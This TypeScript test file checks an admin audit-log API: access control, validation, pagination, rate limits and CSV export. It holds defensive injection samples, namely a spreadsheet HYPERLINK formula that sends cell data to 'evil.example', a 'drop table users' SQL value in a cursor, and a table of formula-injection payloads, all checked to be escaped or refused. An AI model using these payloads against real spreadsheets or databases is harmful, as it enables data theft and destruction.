import { randomUUID } from 'node:crypto';
import { sql } from 'kysely';
import { expect } from 'vitest';
import { csvCell } from '#server/identity/admin/csv.rules.ts';
import { replicaWith, test as base } from '#server/testing/fixtures.ts';
import { registerAdmin, registerPerson, type Person } from '#server/testing/people.ts';
import { createTestBrowser } from '#server/testing/test-browser.ts';
import type { TestServer } from '#server/testing/test-server.ts';
import { auditEvents } from '#shared/identity/audit.ts';

const test = base.extend(
  'limited',
  { scope: 'file' },
  replicaWith({ environment: { LIMIT_EXPORTS_PER_USER: '2/60m' } }),
);

const list = ({ browser }: Person, input?: unknown) => browser.query('admin.audit.list', input);
const exportCsv = ({ browser }: Person, input?: unknown) => browser.query('admin.audit.export', input);
const idsOf = (data: { items: { id: string }[] }) => data.items.map(({ id }) => id);

/** Events of somebody, by hand. */
async function happen(server: TestServer, userId: string, count: number, device = 'by hand'): Promise<void> {
  await sql`insert into audit_events (id, event, user_id, ip_address, device_info, request_id, occurred_at)
    select gen_random_uuid(), 'signed-in', ${userId}, '198.51.100.7', ${device}, 'by-hand', now() - make_interval(mins => n / 3)
    from generate_series(1, ${count}::int) as n`.execute(server.db);
}

test('whoever may not read the audit neither lists nor exports it, and no export is noted', async ({
  person,
}) => {
  expect((await list(person)).error?.code).toBe('FORBIDDEN');
  expect((await exportCsv(person)).error?.code).toBe('FORBIDDEN');
});

test('an unknown filter, kind, time or cursor is refused', async ({ server }) => {
  const admin = await registerAdmin(server);
  for (const input of [
    { event: 'something' },
    { from: 'yesterday' },
    { to: '2026-13-01T00:00:00Z' },
    { from: '0000-01-01T00:00:00Z' },
    { userId: 'me' },
    { ip: '' },
    { cursor: '1; drop table users' },
    { limit: 101 },
    { sessionId: randomUUID() },
  ])
    expect((await list(admin, input)).error?.code, `asked: ${JSON.stringify(input)}`).toBe(
      'VALIDATION_FAILED',
    );
  expect((await exportCsv(admin, { limit: 5 })).error?.code).toBe('VALIDATION_FAILED');
});

test('filters join, and pages meet without a gap over events of one instant', async ({ server, person }) => {
  const admin = await registerAdmin(server);
  await happen(server, person.id, 10);
  const filters = { userId: person.id, event: 'signed-in', ip: '198.51.100.7' };
  const seen: string[] = [];
  let cursor: string | undefined;
  do {
    const { data } = await list(admin, { ...filters, limit: 4, ...(cursor && { cursor }) });
    seen.push(...idsOf(data));
    cursor = data.nextCursor ?? undefined;
  } while (cursor);
  expect([seen.length, new Set(seen).size]).toEqual([10, 10]);
  expect((await list(admin, { ...filters, ip: '198.51.100.8' })).data.items).toEqual([]);
  expect((await list(admin, { ...filters, cursor: randomUUID() })).data).toEqual({
    items: [],
    nextCursor: null,
  });
});

test('a span holds its beginning and not its end', async ({ server, person }) => {
  const admin = await registerAdmin(server);
  await sql`insert into audit_events (id, event, user_id, request_id, occurred_at)
    select gen_random_uuid(), 'signed-out', ${person.id}, 'by-hand', timestamptz '2026-03-01 00:00Z' + make_interval(days => n)
    from generate_series(0, 2) as n`.execute(server.db);
  const span = { from: '2026-03-01T00:00:00Z', to: '2026-03-03T00:00:00Z' };
  const { data } = await list(admin, { userId: person.id, ...span });
  expect(data.items.map(({ at }: { at: string }) => at)).toEqual([
    '2026-03-02T00:00:00.000Z',
    '2026-03-01T00:00:00.000Z',
  ]);
});

test('an event names whom it concerns and who did it, also after the account is gone', async ({ server }) => {
  const admin = await registerAdmin(server);
  const person = await registerPerson(server);
  await admin.browser.mutate('admin.users.setMaxChats', { userId: person.id, maxChats: 1 });
  const filters = { userId: person.id, event: 'max-chats-changed' };
  const named = { id: person.id, email: person.email };
  const actor = { id: admin.id, email: admin.email };
  expect((await list(admin, filters)).data.items).toMatchObject([{ user: named, actor, ip: '127.0.0.1' }]);
  await server.db.deleteFrom('users').where('id', '=', person.id).execute();
  expect((await list(admin, filters)).data.items).toMatchObject([
    { user: { id: person.id, email: null }, actor },
  ]);
});

test('what a stranger wrote into their device is no formula in the export', async ({ server, person }) => {
  const admin = await registerAdmin(server);
  await happen(server, person.id, 1, `=HYPERLINK("http://evil.example?x="&A1,"Open, please")`);
  const { data } = await exportCsv(admin, { userId: person.id, ip: '198.51.100.7' });
  const [titles, line, ...rest] = data.csv.split('\r\n');
  expect(titles).toBe(
    'at,event,user_id,user_email,actor_id,actor_email,ip,user_agent,session_id,request_id,details',
  );
  expect(line).toContain(`,"'=HYPERLINK(""http://evil.example?x=""&A1,""Open, please"")",`);
  expect(rest).toEqual(['']);
});

test.for([
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', `"'\t'=1"`],
  ['\r=1', `"'\r'=1"`],
  ['\n=1', `"'\n'=1"`],
  ['＝1', "'＝1"],
  ['\tplain', `"'\tplain"`],
  [' =1', "' =1"],
  ['\u00a0=1', "'\u00a0=1"],
  ['\ufeff=1', "'\ufeff=1"],
  ['\u200b=1', "'\u200b=1"],
  ['\ufe62\ufe66', "'\ufe62\ufe66"],
  ['a;=1', `"a;'=1"`],
  ['a; =1', `"a;' =1"`],
  ['a,b;@x;+y', `"a,b;'@x;'+y"`],
  ['a\n-1', `"a\n'-1"`],
  ['a\t=1', `"a\t'=1"`],
  ['X11; Linux', '"X11; Linux"'],
  ['a-b=c', 'a-b=c'],
  ['a"b', '"a""b"'],
  ['a,b', '"a,b"'],
  ['plain', 'plain'],
  ['', ''],
])('the cell %j is written as %j', ([value, cell]) => {
  expect(csvCell(value ?? '')).toBe(cell);
});

test('an export is an event of whoever made it, and every event kind passes through it', async ({
  server,
}) => {
  const admin = await registerAdmin(server);
  for (const event of auditEvents)
    await sql`insert into audit_events (id, event, user_id, request_id) values (gen_random_uuid(), ${event}, ${admin.id}, 'by-hand')`.execute(
      server.db,
    );
  const { data } = await exportCsv(admin, { userId: admin.id });
  for (const event of auditEvents) expect(data.csv).toContain(`,${event},${admin.id},${admin.email},`);
  const rows = data.csv.split('\r\n').length - 2;
  const [newest] = (await list(admin, { userId: admin.id, limit: 1 })).data.items;
  const self = { id: admin.id, email: admin.email };
  expect(newest).toMatchObject({ event: 'audit-exported', user: self, actor: self, details: { rows } });
});

test('an export holds five thousand events, and its cursor leads to the rest', async ({ server, person }) => {
  const admin = await registerAdmin(server);
  await happen(server, person.id, 5_003);
  const filters = { userId: person.id, event: 'signed-in', ip: '198.51.100.7' };
  const first = (await exportCsv(admin, filters)).data;
  const second = (await exportCsv(admin, { ...filters, cursor: first.nextCursor })).data;
  const lines = [first, second].map(({ csv }) => csv.split('\r\n').length - 2);
  expect([...lines, second.nextCursor]).toEqual([5_000, 3, null]);
});

test('exports are limited per administrator, and a refused one is noted as a limit alone', async ({
  server,
  limited,
}) => {
  const admin = await registerAdmin(server);
  const browser = createTestBrowser(limited.url, limited.config.appOrigin);
  for (const [name, value] of admin.browser.jar) browser.jar.set(name, value);
  const codes = [];
  for (let count = 0; count < 3; count += 1)
    codes.push((await browser.query('admin.audit.export', { userId: admin.id })).error?.code);
  expect(codes).toEqual([undefined, undefined, 'RATE_LIMITED']);
  const [newest] = (await list(admin, { userId: admin.id, limit: 1 })).data.items;
  expect(newest).toMatchObject({ event: 'limit-hit' });
});
